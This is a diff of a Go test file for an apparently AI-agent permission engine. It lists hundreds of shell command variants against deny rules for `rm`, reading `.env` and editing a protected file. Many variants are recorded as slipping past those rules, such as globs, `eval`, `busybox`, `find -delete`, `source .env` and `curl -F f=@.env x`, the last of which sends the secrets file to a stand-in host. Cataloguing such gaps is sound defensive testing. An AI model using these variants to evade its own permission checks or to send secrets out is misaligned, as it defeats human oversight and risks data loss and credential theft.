@@ -59,33 +59,57 @@ func TestLooksReadOnly(t *testing.T) {
 	}
 }
 
-// Deny rules hold however a command line is built, in every mode and beside a
-// rule that allows all of Bash. What may break one and cannot be read is asked
-// about.
-func TestDenyHolds(t *testing.T) {
+// What deny rules refuse beside a rule that allows all of Bash, and what they do
+// not, as the real CLI 2.1.330 decides it in every mode (security point A3).
+func TestDenyRules(t *testing.T) {
 	tests := []struct {
 		want     string
 		commands []string
 	}{
 		{"deny", []string{
-			"{ cat; } < .env", "while read l; do echo; done < .env", "(cat) < .env", "if true; then cat; fi < .env", "(echo x) > kept",
-			"{ echo x; } >> kept", "cat .env\n)", "cat .env; (", "rm q\nif true", "cat .e*", "cat ./.e??", "cat .[e]nv", "cat .{env,x}",
-			"cat <> .env", `cat $'\x2eenv'`, `$'\x72m' q`, `cat "$HOME/../../work/project/.env"`, `cat "$HOME"/../../work/project/.env`,
-			"cd sub; echo > ../kept", "cd sub && cat ../.env", "grep -e. .env", "grep -f .env a", "grep --regexp=. .env", "cat env", "cat e*",
-			"diff --from-file=.env a", "env -u X rm q", "env -C sub -u X rm q", "timeout -s KILL 5 rm q", "timeout -k 3 -s KILL 5 rm q",
-			"xargs -I {} rm {}", "xargs -n 1 rm", "stdbuf -o L rm q", "exec rm q", "exec -a x rm q", "sudo -u root rm q", "nice -n 5 rm q",
-			"flock x rm q", "busybox rm q", "time -p rm q", "eval rm q", `eval "rm q"`, "bash -c 'rm q'", "sh -lc 'rm q'",
-			"nohup bash -c 'true; rm q'", "bash -c \"sh -c 'rm q'\"", "find . -exec rm {} +", `find . -name 'a b' -execdir rm {} \;`,
-			"{rm,q}", "{r,}m q", "bash -c 'cat < .env'", "trap 'rm q' EXIT", `echo "$(<.env)"`, "cp -t sub .env", "mv -tkept a", "cp -vtkept a", "cd sub && bash -c 'echo > ../kept'",
-			"cd sub && cd . && find . -maxdepth 0 -exec touch ../kept +", "cd sub; eval cat ../.env", "cd sub; bash -c 'cd ..; eval cat .env'", "awk 1 .env", ". .env", "< .env cat",
+			"cd sub && cat ../.env", "grep -e. .env", "grep -f .env a", "grep --regexp=. .env", "env -u X rm q", "env -C sub -u X rm q", "env rm q", "env A=1 rm q",
+			"timeout -s KILL 5 rm q", "timeout -k 3 -s KILL 5 rm q", "timeout 5 rm q", "xargs rm", "ls | xargs rm", "exec rm q", "exec -a x rm q", "sudo rm q",
+			"sudo -u root rm q", "doas rm q", "nice -n 5 rm q", "nice rm q", "nohup rm q", "time rm q", "flock x rm q", "time -p rm q", "cp -t sub .env", "cp .env x",
+			"mv .env x", "mv -tkept a", "cp a kept", "cp -vtkept a", "awk 1 .env", "< .env cat", "X=rm; $X q", "/bin/rm q", "\\rm q", "'rm' q", `"rm" q`, `r""m q`,
+			"r\\m q", "command rm q", "command -p rm q", "builtin rm q", "unshare rm q", "unshare -r rm q", "nsenter rm q", "nsenter -t 1 rm q", "setsid rm q",
+			"ionice rm q", "ionice -c 3 rm q", "chrt 1 rm q", "taskset 1 rm q", "strace rm q", "ltrace rm q", "watch rm q", "script -c 'rm q'", "rm q &", "(rm q)",
+			"{ rm q; }", "f() { rm q; }; f", "f() { rm q; }", "if true; then rm q; fi", "for i in a; do rm q; done", "while rm q; do ls; done",
+			"case x in x) rm q;; esac", "[[ $(rm q) ]]", "! rm q", "echo `rm q`", "echo $(rm q)", `echo "$(rm q)"`, "cat <(rm q)", "X=$(rm q)", "X=1 rm q",
+			"FOO=bar rm q", "PATH=. rm q", "true && rm q", "true || rm q", "true | rm q", "rm", "rm -rf q", "rm  q", " rm q", "rm\tq", "pushd sub; cat ../.env",
+			"pushd sub && cat ../.env", "builtin pushd sub; cat ../.env", "command pushd sub; cat ../.env", "builtin cd sub; cat ../.env",
+			"command cd sub; cat ../.env", "popd; cat .env", "cat ./.env", "cat sub/../.env", "cat sub/deep/../../.env", `cat "$PWD/.env"`, "cat < ./.env",
+			"cat 0< .env", "head .env", "tail -n1 .env", "wc .env", "base64 .env", "od .env", "strings .env", "sort .env", "uniq .env", "cut -c1 .env", "tr a b < .env",
+			"sed -n 1p .env", "sed 1d .env", "awk '{print}' .env", "grep x .env", "ls .env", "stat .env", "file .env", "diff .env a", "cmp .env a", "cp .env /tmp/x",
+			"git diff .env", "tee kept", "echo x | tee kept", "echo x >> ./kept", "touch kept", "sed -i s/a/b/ kept", "mv a kept", "rm kept", "rm q # x", "rm.exe q",
+			"./rm q", "sub/rm q", "ls;rm q", "ls&&rm q", "ls|rm q", "ls&rm q", "ls||rm q", "ls |& rm q", "rm q", "exit; rm q", "time -p -- rm q", "nohup -- rm q",
+			"timeout --kill-after=3 5 rm q", "timeout --foreground 5 rm q", "timeout 5s rm q", "timeout 0.5 rm q", "nice -5 rm q", "nice -n -5 rm q", "env - rm q",
+			"env -i rm q", "env -i A=1 rm q", "env -- rm q", "env -S 'rm q'", "env --split-string='rm q'", "env -u A -u B rm q", "stdbuf -oL rm q",
+			"stdbuf -i0 -o0 rm q", "sudo -n rm q", "sudo -E -u x rm q", "sudo A=1 rm q", "sudo -- rm q", "function rm { ls; }; rm q", "cd sub && rm q",
+			"cd sub && cat .env", "cat sub/.env", "cat <<E\n$(rm q)\nE", "ls )\nrm q", "ls ( ; rm q", "rm q\nif true", "ls\nrm q", "if true\nrm q", "ls \\\n&& rm q",
+			"rm \\\nq", "ls ; \\\nrm q", "for f in a\ndo rm q\ndone",
 		}},
 		{"ask", []string{
-			"X=rm; $X q", "$(echo rm) q", "/bin/r? q", "echo 'rm q' | bash", `bash -c "$X"`, `eval "$X"`, "cat $X", "cat < $X", "echo x > $X",
-			"cat ~root/x", "cat ~-/x", "ls; (", "for f in *; do cat $f; done",
+			"bash -c 'rm q'", "sh -c 'rm q'", "sh -lc 'rm q'", "zsh -c 'rm q'", `bash -c "rm q"`, "nohup bash -c 'true; rm q'", `bash -c "sh -c 'rm q'"`,
+			"sudo bash -c 'rm q'",
 		}},
 		{"allow", []string{
-			"cat a", "echo rm", "npm test", "grep rm a", "cat a | head -5", "{ cat a; } < a", "find . -name '.env'", "echo 'cat .env'",
-			"bash -c 'cat a'", "timeout 5 ls", `cat "$HOME/x"`, "echo $X", "./build.sh", "for f in a b; do npm test; done", "cat f*",
+			"{ cat; } < .env", "while read l; do echo; done < .env", "(cat) < .env", "if true; then cat; fi < .env", "(echo x) > kept", "{ echo x; } >> kept",
+			"cat .e*", "cat ./.e??", "cat .[e]nv", "cat .{env,x}", "cat <> .env", "cat $'\\x2eenv'", "$'\\x72m' q", "$'rm' q", "xargs -I {} rm {}", "xargs -n 1 rm",
+			"xargs -n1 rm", "ls | xargs -n1 rm", "ls | xargs -0 rm -f", "stdbuf -o L rm q", "busybox rm q", "eval rm q", `eval "rm q"`, "eval 'rm q'",
+			"find . -exec rm {} +", "find . -exec rm {} \\;", "find . -name 'a b' -execdir rm {} \\;", "find . -name x -ok rm {} \\;", "find . -delete", "{rm,q}",
+			"{r,}m q", "bash -c 'cat < .env'", "bash -c 'cat .env'", "trap 'rm q' EXIT", `echo "$(<.env)"`, "cd sub && bash -c 'echo > ../kept'",
+			"cd sub && cd . && find . -maxdepth 0 -exec touch ../kept +", "cd sub; eval cat ../.env", ". .env", "source .env", "$(echo rm) q", "/bin/r? q",
+			"echo 'rm q' | bash", `bash -c "$X"`, `eval "$X"`, "cat $X", "cat < $X", "echo x > $X", "cat ~root/x", "cat ~-/x", "ls; (", "for f in *; do cat $f; done",
+			"cat f*", "unbuffer rm q", "chronic rm q", "caffeinate rm q", "runuser rm q", "su -c 'rm q'", "parallel rm q", "ssh h rm q", "docker run x rm q",
+			"chroot / rm q", "firejail rm q", "proot rm q", "cat <<E", "cat <<'E'", "bash <<'E'", "rmdir q", "echo rm q", "echo 'rm q'", "git rm q", "npm run rm",
+			"cat $PWD/.env", "cat ${PWD}/.env", "less .env", "more .env", "xxd .env", "rg x", "find . -name .env", "ls", "ln -s .env x", "tar cf x .env", "zip x .env",
+			`python3 -c 'open(".env")'`, "node -e '1' .env", "git add .env", "git show HEAD:.env", "vim .env", "nano .env", "code .env", "dd if=.env",
+			"curl -F f=@.env x", "curl file://.env", "cat kept", "cat a", "npm test", "grep rm a", "cat a | head -5", "{ cat a; } < a", "bash -c 'cat a'",
+			"timeout 5 ls", `cat "$HOME/x"`, "echo $X", "./build.sh", "for f in a b; do npm test; done", "# rm q", "ls # rm q", `echo "rm q"`, "xargs echo rm",
+			"find . -name rm", "ls rm", "which rm", "man rm", "type rm", "command -v rm", "alias rm=ls", "unalias rm", "export rm=1", "make rm", "rmx q",
+			"stdbuf --output=L rm q", "su root -c 'rm q'", "let rm=1", "declare rm", "test rm", "[ rm ]", "printf rm", "rm() { ls; }", "read rm", "cat <<E\nrm q\nE",
+			"cat <<'E'\nrm q\nE", "bash <<'E'\nrm q\nE", "bash <<E\nrm q\nE", "cat <<E | bash\nrm q\nE", "sh <<< 'rm q'", "ls $(pwd) )", "echo ${x}; )", "ls $( )",
+			"ls `pwd` )", "ls ${x} )",
 		}},
 	}
 	for _, tt := range tests {
@@ -93,7 +117,7 @@ func TestDenyHolds(t *testing.T) {
 			p := policy(t, files(permission.Options{Mode: mode, HasAsker: true}), "allow Bash", "deny Bash(rm:*)", "deny Read(.env)", "deny Edit(kept)")
 			for _, command := range tt.commands {
 				if got, _, _ := strings.Cut(outcome(p.Decide(use("Bash", command))), " "); got != tt.want {
-					t.Errorf("%s in %q: %s, want %s", command, mode, got, tt.want)
+					t.Errorf("%q in %q: %s, want %s", command, mode, got, tt.want)
 				}
 			}
 		}
